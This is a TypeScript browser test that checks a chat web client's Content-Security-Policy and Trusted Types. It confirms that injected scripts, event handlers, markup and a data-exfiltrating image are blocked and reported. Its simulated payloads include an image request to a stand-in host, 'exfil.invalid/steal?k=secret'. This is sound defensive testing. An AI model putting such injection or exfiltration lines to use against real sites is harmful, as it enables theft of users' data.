/**
 * The web client under the relay's Content-Security-Policy, in Debian's Chromium: the page is served
 * with the policy and the security headers, the app registers and connects with no violation, and a
 * script injected into the page (what an HTML-injection bug would give an attacker) neither runs nor
 * sends anything off the relay's origin. Under Trusted Types (no policy allowed) a string given to
 * innerHTML, a script's text or an event-handler attribute is refused outright. The other browser tests run every flow under the same policy
 * (the harness counts each violation as a problem). Skipped with one line when Chromium is missing.
 */
import { describe, expect, it } from 'vitest';
import { browserSuite, DESKTOP, registerOn } from './browser-harness.js';

const suite = browserSuite('chat CSP browser test', { prefix: 'e2ee-chat-csp-' });

describe('the web client under its Content-Security-Policy', () => {
  it.skipIf(!suite.enabled)(
    'runs with no violation, and an injected script or exfiltrating image is blocked and reported',
    async () => {
      const problems: string[] = [];
      const page = await suite.page('csp', DESKTOP, problems);
      const res = await page.request.get(suite.relay.url);
      expect(res.headers()['content-security-policy']).toContain("script-src 'self' 'wasm-unsafe-eval'");
      expect(res.headers()['x-frame-options']).toBe('DENY');
      expect(res.headers()['content-security-policy']).toContain("require-trusted-types-for 'script'");
      await registerOn(page, 'csp-alice');
      expect(problems).toEqual([]);

      // WebAssembly compiles (hash-wasm's Argon2 for backups needs it): the smallest valid module.
      const wasm = await page.evaluate(async () => {
        const empty = Uint8Array.of(0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00);
        return (await WebAssembly.compile(empty)) instanceof WebAssembly.Module;
      });
      expect(wasm).toBe(true);

      // What an injection would add: an inline script, an inline handler, markup, and an image that
      // would carry data to another host. None runs or loads; each is reported.
      const ran = await page.evaluate(async () => {
        const w = window as unknown as Record<string, unknown>;
        const seen: string[] = [];
        document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
        // Under Trusted Types a string is refused by every HTML and script sink: it throws.
        const refused = (sink: () => void) => {
          try {
            sink();
            return 'accepted';
          } catch (e) {
            return e instanceof TypeError ? 'refused' : String(e);
          }
        };
        const script = document.createElement('script');
        const scriptText = refused(() => {
          script.textContent = 'window.__injected = true';
        });
        // Script text put in by a text node (no sink) is checked when the script would run.
        script.append(document.createTextNode('window.__injected = true'));
        document.body.append(script);
        const handler = document.createElement('img');
        const handlerText = refused(() => handler.setAttribute('onerror', 'window.__handler = true'));
        handler.src = 'blob:null/x';
        document.body.append(handler);
        const markup = refused(() => {
          document.createElement('div').innerHTML =
            '<img src="blob:null/y" onerror="window.__markup = true">';
        });
        const img = document.createElement('img');
        img.src = 'http://exfil.invalid/steal?k=secret';
        document.body.append(img);
        // Violation events are queued as tasks: wait until all five came (or give up after a while).
        for (let i = 0; i < 100 && seen.length < 5; i++) await new Promise((r) => setTimeout(r, 20));
        return {
          script: w['__injected'] === true,
          handler: w['__handler'] === true || w['__markup'] === true,
          sinks: [scriptText, handlerText, markup],
          seen: seen.sort(),
        };
      });
      expect(ran.script).toBe(false);
      expect(ran.handler).toBe(false);
      expect(ran.sinks).toEqual(['refused', 'refused', 'refused']);
      // Each string given to a sink (3), and the script whose text no sink checked, once it would
      // run: Trusted Types reports all four; the image is CSP's img-src.
      expect(ran.seen).toEqual(['img-src', ...Array<string>(4).fill('require-trusted-types-for')]);
      // The harness saw them too: a violation in any browser test is a failure.
      expect(problems.filter((p) => p.includes('CSP violation'))).toHaveLength(5);
    },
    60_000,
  );
});
